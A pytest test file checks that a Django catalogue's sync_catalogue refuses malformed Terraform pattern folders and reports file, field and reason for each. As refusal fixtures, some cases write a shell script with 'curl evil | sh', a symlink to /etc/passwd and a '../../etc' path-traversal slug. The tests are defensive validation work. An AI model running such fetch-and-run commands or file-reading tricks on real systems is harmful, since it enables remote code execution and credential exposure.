"""sync_catalogue refuses every kind of broken pattern folder: it names file, field and reason, and loads nothing.

Each case copies the shipped patterns into tmp_path and breaks one of them;
the four good patterns beside it must not be loaded either.
"""

import json
import os
import re
import shutil
from pathlib import Path

import pytest

from catalogue.models import Pattern, PatternVersion
from catalogue.services import CatalogueError, sync_catalogue
from catalogue.tests.helpers import catalogue_state, edit_yaml, read_yaml, write_yaml

pytestmark = pytest.mark.django_db


def web_yaml(root: Path) -> str:
    return str(root / "web-app" / "pattern.yaml")


def web_module(root: Path) -> str:
    return str(root / "web-app" / "terraform")


def web_property(name: str, **changes):
    def change(data):
        data["parameters"]["properties"][name].update(changes)

    return change


def append_to(path: Path, text: str) -> None:
    with open(path, "a") as handle:
        handle.write(text)


# Each case breaks the web-app copy and returns the (file, field, reason) it expects reported.
def malformed_yaml(root):
    (root / "web-app" / "pattern.yaml").write_text("name: Web\nversion: 1.0.0\nsummary: [unclosed\ncategory: web\n")
    return web_yaml(root), "line 4, column 9", "is not valid YAML"


def yaml_that_is_not_a_mapping(root):
    (root / "web-app" / "pattern.yaml").write_text("- name\n- version\n")
    return web_yaml(root), "", "must be a YAML mapping"


def parameter_bound_of_the_wrong_type(root):
    edit_yaml(root / "web-app", web_property("app_port", minimum="ten"))
    return web_yaml(root), "parameters.properties.app_port.minimum", "is not valid JSON Schema: 'ten' is not of type"


def required_list_that_is_not_a_list(root):
    edit_yaml(root / "web-app", lambda d: d["parameters"].update(required="region"))
    return web_yaml(root), "parameters.required", "is not valid JSON Schema: 'region' is not of type 'array'"


def unknown_json_schema_type(root):
    edit_yaml(root / "web-app", web_property("region", type="text"))
    return web_yaml(root), "parameters.properties.region.type", "is not valid JSON Schema"


def slug_with_dot_dot(root):
    edit_yaml(root / "web-app", lambda d: d.update(slug="../../etc"))
    return web_yaml(root), "slug", "'../../etc' may only contain lower-case letters, digits and inner hyphens"


def slug_with_a_slash(root):
    edit_yaml(root / "web-app", lambda d: d.update(slug="web/app"))
    return web_yaml(root), "slug", "'web/app' may only contain"


def folder_name_with_dots(root):
    (root / "web-app").rename(root / "web..app")
    return str(root / "web..app" / "pattern.yaml"), "slug", "'web..app' may only contain"


def missing_module_folder(root):
    shutil.rmtree(root / "web-app" / "terraform")
    return web_module(root), "", "is missing; put the pattern's Terraform module in terraform/"


def module_folder_without_tf_files(root):
    for path in (root / "web-app" / "terraform").iterdir():
        path.unlink()
    (root / "web-app" / "terraform" / "README.md").write_text("nothing here")
    return web_module(root), "", "holds no .tf file"


def missing_pattern_yaml(root):
    (root / "web-app" / "pattern.yaml").unlink()
    return web_yaml(root), "", "is missing; every pattern folder needs a pattern.yaml"


def duplicate_slug(root):
    shutil.copytree(root / "web-app", root / "web-app-copy")
    edit_yaml(root / "web-app-copy", lambda d: d.update(slug="web-app"))
    return str(root / "web-app-copy" / "pattern.yaml"), "slug", f"'web-app' is already used by {web_yaml(root)}"


def unknown_key(root):
    edit_yaml(root / "web-app", lambda d: d.update(owner="platform-team"))
    return web_yaml(root), "owner", "is not a known key; allowed keys:"


def missing_required_key(root):
    edit_yaml(root / "web-app", lambda d: d.pop("summary"))
    return web_yaml(root), "summary", "is required"


def key_of_the_wrong_kind(root):
    edit_yaml(root / "web-app", lambda d: d.update(tiers=["dev", "prod"]))
    return web_yaml(root), "tiers", "must be a mapping"


def unknown_tier(root):
    edit_yaml(root / "web-app", lambda d: d["tiers"].update(staging={"default_ttl_days": 1, "max_ttl_days": 2}))
    return web_yaml(root), "tiers.staging", "'staging' is not a tier; use dev, test, prod"


def no_tier_at_all(root):
    edit_yaml(root / "web-app", lambda d: d.update(tiers={}))
    return web_yaml(root), "tiers", "must allow at least one of dev, test, prod"


def tier_default_above_its_maximum(root):
    edit_yaml(root / "web-app", lambda d: d["tiers"].update(dev={"default_ttl_days": 14, "max_ttl_days": 7}))
    return web_yaml(root), "tiers.dev.default_ttl_days", "14 is above max_ttl_days 7"


def tier_ttl_that_is_not_a_number_of_days(root):
    edit_yaml(root / "web-app", lambda d: d["tiers"].update(dev={"default_ttl_days": "a week", "max_ttl_days": 30}))
    return web_yaml(root), "tiers.dev.default_ttl_days", "must be a whole number of days"


def tier_with_an_unknown_rule(root):
    edit_yaml(root / "web-app", lambda d: d["tiers"].update(dev={"default_ttl_days": 7, "max_cost": 100}))
    return web_yaml(root), "tiers.dev", "must be a mapping with default_ttl_days and max_ttl_days"


def unknown_category(root):
    edit_yaml(root / "web-app", lambda d: d.update(category="websites"))
    return web_yaml(root), "category", "'websites' must be one of web, data"


def unknown_data_classification(root):
    edit_yaml(root / "web-app", lambda d: d.update(data_classification="secret"))
    return web_yaml(root), "data_classification", "'secret' must be one of public, internal, confidential, restricted"


def version_that_is_not_semver(root):
    edit_yaml(root / "web-app", lambda d: d.update(version="1.0"))
    return web_yaml(root), "version", "'1.0' must look like 1.2.0"


def default_below_its_own_minimum(root):
    edit_yaml(root / "web-app", web_property("database_storage_gb", default=5))
    return (
        web_yaml(root),
        "parameters.properties.database_storage_gb.default",
        "does not satisfy its own schema: Enter a value of at least 20.",
    )


def default_outside_its_own_enum(root):
    edit_yaml(root / "web-app", web_property("region", default="mars-north-1"))
    return web_yaml(root), "parameters.properties.region.default", "Choose one of: eu-west-1, eu-central-1, us-east-1"


def default_that_breaks_its_own_pattern(root):
    edit_yaml(root / "web-app", web_property("vpc_cidr", default="192.168.0.0/16"))
    return web_yaml(root), "parameters.properties.vpc_cidr.default", "Use a private 10.x.y.0 range"


def parameters_that_accept_unknown_inputs(root):
    edit_yaml(root / "web-app", lambda d: d["parameters"].pop("additionalProperties"))
    return web_yaml(root), "parameters.additionalProperties", "must be false so unknown inputs are refused"


def parameter_without_a_title(root):
    edit_yaml(root / "web-app", lambda d: d["parameters"]["properties"]["app_port"].pop("title"))
    return web_yaml(root), "parameters.properties.app_port.title", "is required: it is the form label"


def parameter_of_an_unsupported_type(root):
    edit_yaml(root / "web-app", web_property("region", type="object"))
    return web_yaml(root), "parameters.properties.region.type", "must be one of string, integer, number, boolean, array"


def parameter_named_like_a_portal_field(root):
    def change(data):
        data["parameters"]["properties"]["tags"] = {"type": "string", "title": "Tags"}

    edit_yaml(root / "web-app", change)
    return web_yaml(root), "parameters.properties.tags", "'tags' is set by the portal; choose another name"


def required_parameter_that_does_not_exist(root):
    edit_yaml(root / "web-app", lambda d: d["parameters"]["required"].append("disk_size"))
    return web_yaml(root), "parameters.required", "names 'disk_size', which is not a property"


def symlink_in_the_module(root):
    os.symlink("/etc/passwd", root / "web-app" / "terraform" / "passwd.tf")
    return f"{web_module(root)}/passwd.tf", "", "is a symbolic link; copy the file instead"


def symlinked_module_folder(root):
    shutil.move(root / "web-app" / "terraform", root / "elsewhere")
    os.symlink(root / "elsewhere", root / "web-app" / "terraform")
    return web_module(root), "", "is missing"


def symlinked_pattern_folder(root):
    shutil.move(root / "web-app", root.parent / "outside")
    os.symlink(root.parent / "outside", root / "web-app")
    return str(root / "web-app"), "", "is a symbolic link; pattern folders must be real folders"


def module_file_of_another_kind(root):
    (root / "web-app" / "terraform" / "bootstrap.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    return f"{web_module(root)}/bootstrap.sh", "", "is not a module file; allowed: .tf, .tf.json"


def module_declaring_a_provider_block(root):
    append_to(root / "web-app" / "terraform" / "main.tf", '\nprovider "aws" {\n  region = "us-east-1"\n}\n')
    return f"{web_module(root)}/main.tf", 'provider "aws"', "is not allowed in a pattern"


def module_declaring_a_provider_with_a_bare_label(root):
    # HCL accepts bare identifiers as block labels: `provider aws {` is the same block.
    append_to(root / "web-app" / "terraform" / "main.tf", "\nprovider aws {\n  region = var.region\n}\n")
    return f"{web_module(root)}/main.tf", "provider aws", "is not allowed in a pattern"


def module_declaring_a_provider_in_json_syntax(root):
    provider = {"provider": {"aws": {"region": "us-east-1"}}}
    (root / "web-app" / "terraform" / "provider.tf.json").write_text(json.dumps(provider))
    return f"{web_module(root)}/provider.tf.json", "provider", "is not allowed in a pattern"


def module_declaring_a_backend_in_json_syntax(root):
    settings = {"terraform": {"backend": {"s3": {"bucket": "somewhere"}}}}
    (root / "web-app" / "terraform" / "backend.tf.json").write_text(json.dumps(settings))
    return f"{web_module(root)}/backend.tf.json", "terraform.backend", "is not allowed in a pattern"


def module_declaring_a_state_backend(root):
    append_to(
        root / "web-app" / "terraform" / "versions.tf",
        '\nterraform {\n  backend "s3" {\n    bucket = "somewhere"\n  }\n}\n',
    )
    return f"{web_module(root)}/versions.tf", 'backend "s3"', "is not allowed in a pattern"


def module_missing_a_parameter_variable(root):
    variables = root / "web-app" / "terraform" / "variables.tf"
    text, removed = re.subn(r'variable "app_port" \{.*?\n\}\n', "", variables.read_text(), flags=re.S)
    assert removed == 1
    variables.write_text(text)
    return web_module(root), 'variable "app_port"', "is not declared; the module must accept it"


def module_missing_the_tags_variable(root):
    variables = root / "web-app" / "terraform" / "variables.tf"
    text, removed = re.subn(r'variable "tags" \{.*?\n\}\n', "", variables.read_text(), flags=re.S)
    assert removed == 1
    variables.write_text(text)
    return web_module(root), 'variable "tags"', "is not declared"


def pattern_that_accepts_digits_of_any_script(root):
    edit_yaml(root / "web-app", web_property("health_check_path", pattern="^/[a-z\\d/]*$", default="/health"))
    return web_yaml(root), "parameters.properties.health_check_path.pattern", "use [0-9]"


def alias_that_is_another_patterns_slug(root):
    edit_yaml(root / "web-app", lambda d: d.update(aliases=["message-queue"]))
    return web_yaml(root), "aliases", "'message-queue' is already the name of"


def alias_that_is_not_a_name(root):
    edit_yaml(root / "web-app", lambda d: d.update(aliases=["Web App!"]))
    return web_yaml(root), "aliases[0]", "must be a name like app-environment"


def size_naming_an_unknown_parameter(root):
    edit_yaml(root / "web-app", lambda d: d["sizes"]["small"].update(instance_type="t3.micro"))
    return web_yaml(root), "sizes.small.instance_type", "is not a parameter of this pattern"


def size_with_a_value_its_parameter_refuses(root):
    edit_yaml(root / "web-app", lambda d: d["sizes"]["large"].update(database_storage_gb=5000))
    return web_yaml(root), "sizes.large.database_storage_gb", "is not a valid value"


def size_that_is_not_a_mapping(root):
    edit_yaml(root / "web-app", lambda d: d["sizes"].update(huge="db.r6g.large"))
    return web_yaml(root), "sizes.huge", "must map parameter names to values"


CASES = [
    alias_that_is_another_patterns_slug,
    alias_that_is_not_a_name,
    size_naming_an_unknown_parameter,
    size_with_a_value_its_parameter_refuses,
    size_that_is_not_a_mapping,
    malformed_yaml,
    yaml_that_is_not_a_mapping,
    parameter_bound_of_the_wrong_type,
    required_list_that_is_not_a_list,
    unknown_json_schema_type,
    slug_with_dot_dot,
    slug_with_a_slash,
    folder_name_with_dots,
    missing_module_folder,
    module_folder_without_tf_files,
    missing_pattern_yaml,
    duplicate_slug,
    unknown_key,
    missing_required_key,
    key_of_the_wrong_kind,
    unknown_tier,
    no_tier_at_all,
    tier_default_above_its_maximum,
    tier_ttl_that_is_not_a_number_of_days,
    tier_with_an_unknown_rule,
    unknown_category,
    unknown_data_classification,
    version_that_is_not_semver,
    default_below_its_own_minimum,
    default_outside_its_own_enum,
    default_that_breaks_its_own_pattern,
    parameters_that_accept_unknown_inputs,
    parameter_without_a_title,
    parameter_of_an_unsupported_type,
    parameter_named_like_a_portal_field,
    required_parameter_that_does_not_exist,
    symlink_in_the_module,
    symlinked_module_folder,
    symlinked_pattern_folder,
    module_file_of_another_kind,
    module_declaring_a_provider_block,
    module_declaring_a_provider_with_a_bare_label,
    module_declaring_a_provider_in_json_syntax,
    module_declaring_a_state_backend,
    module_declaring_a_backend_in_json_syntax,
    module_missing_a_parameter_variable,
    module_missing_the_tags_variable,
    pattern_that_accepts_digits_of_any_script,
]


@pytest.mark.parametrize("break_pattern", CASES, ids=[case.__name__ for case in CASES])
def test_a_broken_pattern_is_reported_and_nothing_is_loaded(patterns_root, break_pattern):
    # given four good patterns and one broken one, on an empty catalogue
    expected_file, expected_field, expected_reason = break_pattern(patterns_root)

    # when
    with pytest.raises(CatalogueError) as refused:
        sync_catalogue(patterns_root)

    # then the problem is named exactly
    reported = [(e.file, e.field, e.reason) for e in refused.value.errors]
    assert any(
        file == expected_file and field == expected_field and expected_reason in reason
        for file, field, reason in reported
    ), reported
    assert expected_reason in str(refused.value)
    # and not even the good patterns were loaded
    assert not Pattern.objects.exists()
    assert not PatternVersion.objects.exists()


@pytest.mark.parametrize(
    "break_pattern",
    [malformed_yaml, default_below_its_own_minimum, module_declaring_a_provider_block, duplicate_slug],
    ids=lambda case: case.__name__,
)
def test_a_broken_pattern_leaves_a_loaded_catalogue_as_it_was(patterns_root, break_pattern):
    # given the catalogue is loaded, and then a new version of a good pattern sits beside a broken one
    sync_catalogue(patterns_root)
    before = catalogue_state()
    edit_yaml(patterns_root / "message-queue", lambda d: d.update(version="1.1.0", name="Queue v2"))
    break_pattern(patterns_root)

    # when
    with pytest.raises(CatalogueError):
        sync_catalogue(patterns_root)

    # then
    assert catalogue_state() == before


def test_every_problem_in_every_folder_is_reported_at_once(patterns_root):
    # given two broken patterns, one of them broken twice
    edit_yaml(patterns_root / "web-app", lambda d: d.update(category="websites", data_classification="secret"))
    edit_yaml(patterns_root / "message-queue", lambda d: d.pop("name"))

    # when
    with pytest.raises(CatalogueError) as refused:
        sync_catalogue(patterns_root)

    # then
    fields = {(Path(e.file).parent.name, e.field) for e in refused.value.errors}
    assert fields == {("web-app", "category"), ("web-app", "data_classification"), ("message-queue", "name")}


def test_a_missing_patterns_folder_is_reported(tmp_path):
    with pytest.raises(CatalogueError, match="is not a folder of patterns"):
        sync_catalogue(tmp_path / "nowhere")
    assert not Pattern.objects.exists()


def test_a_module_may_use_bare_labels_for_its_variables_and_resources(patterns_root):
    # given a module written with `variable name {` and `resource type name {`, which Terraform accepts
    variables = patterns_root / "web-app" / "terraform" / "variables.tf"
    variables.write_text(re.sub(r'variable "([a-z_]+)"', r"variable \1", variables.read_text()))
    main = patterns_root / "web-app" / "terraform" / "main.tf"
    main.write_text(re.sub(r'resource "([a-z0-9_]+)" "([a-z0-9_]+)"', r"resource \1 \2", main.read_text()))

    # when
    sync_catalogue(patterns_root)

    # then the variables were found and the resources are listed
    types = {r["type"] for r in PatternVersion.objects.get(pattern__slug="web-app").resources}
    assert {"aws_lb", "aws_wafv2_web_acl", "aws_db_instance", "aws_vpc"} <= types


def test_hidden_folders_beside_the_patterns_are_ignored(patterns_root):
    # given an editor's or Git's folder beside the patterns
    (patterns_root / ".git").mkdir()
    (patterns_root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")

    # when
    sync_catalogue(patterns_root)

    # then every pattern folder was loaded and the hidden one was not
    assert Pattern.objects.count() == sum((folder / "pattern.yaml").exists() for folder in patterns_root.iterdir())
    assert not Pattern.objects.filter(slug=".git").exists()


def test_an_explicit_slug_overrides_the_folder_name(patterns_root):
    # given
    data = read_yaml(patterns_root / "web-app")
    data["slug"] = "web-application"
    write_yaml(patterns_root / "web-app", data)

    # when
    sync_catalogue(patterns_root)

    # then
    assert Pattern.objects.filter(slug="web-application").exists()
    assert not Pattern.objects.filter(slug="web-app").exists()
